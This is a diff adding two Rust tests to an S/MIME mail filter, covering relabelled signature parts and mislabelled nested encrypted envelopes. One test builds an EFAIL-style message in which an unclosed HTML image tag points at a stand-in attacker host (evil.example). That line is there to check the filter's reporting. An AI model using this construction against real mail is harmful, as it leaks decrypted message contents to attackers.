@@ -2544,3 +2544,66 @@ fn an_encrypted_data_root_is_encryption_failed() {
     assert_words(&st, "failed", "none");
     assert!(!text.contains("a shared secret"));
 }
+
+/// The second part of a multipart/signed must be the signature (RFC 1847 §2.1): relabelled
+/// text/html (the signature still inside, attacker HTML after it), readers show it next to the
+/// signed part, and nothing signs it. OpenSSL refuses such a message; so does smimed.
+#[test]
+fn a_signature_part_labelled_otherwise_is_no_valid_signature() {
+    let p = pki();
+    let signed = sign_as(&p.alice, true, &[], &sample_entity("signed text"));
+    let text = String::from_utf8(signed).unwrap();
+    let label = text
+        .lines()
+        .find(|l| l.contains("pkcs7-signature; name="))
+        .expect("signature part label")
+        .to_string();
+    assert!(text.contains(&label));
+    let relabelled = text.replace(&label, "Content-Type: text/html").replace(
+        "Content-Disposition: attachment; filename=\"smime.p7s\"\n",
+        "",
+    );
+    let msg = message(
+        "alice@example.org",
+        "bob@example.org",
+        "relabelled",
+        relabelled.as_bytes(),
+    );
+    let (st, _, _) = filter_checked(None, &[], &msg);
+    assert!(!st.contains("signature=valid"), "{st}");
+    assert_eq!(status_word(&st, "signature"), Some("error"), "{st}");
+}
+
+/// A nested pkcs7-mime part is reported by what its CMS holds, not by its smime-type label: an
+/// envelope labelled signed-data, next to attacker HTML, is `partial=encrypted`.
+#[test]
+fn a_nested_envelope_labelled_signed_is_reported_encrypted() {
+    let p = pki();
+    let der = openssl(
+        &[
+            "cms",
+            "-encrypt",
+            "-aes256",
+            "-outform",
+            "DER",
+            path_str(&p.bob.cert_path),
+        ],
+        &sample_entity("secret"),
+    );
+    let b64 = openssl::base64::encode_block(&der);
+    let entity = format!(
+        "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\nContent-Type: text/html\r\n\r\n\
+         <img src=\"http://evil.example/\r\n--M\r\nContent-Type: application/pkcs7-mime; \
+         smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n\
+         {b64}\r\n--M--\r\n"
+    );
+    let msg = message(
+        "alice@example.org",
+        "bob@example.org",
+        "mislabel",
+        entity.as_bytes(),
+    );
+    let (st, _, _) = filter_checked(Some(&p.bob), &[], &msg);
+    assert!(st.contains("partial=encrypted"), "{st}");
+    assert!(!st.contains("partial=signed"), "{st}");
+}
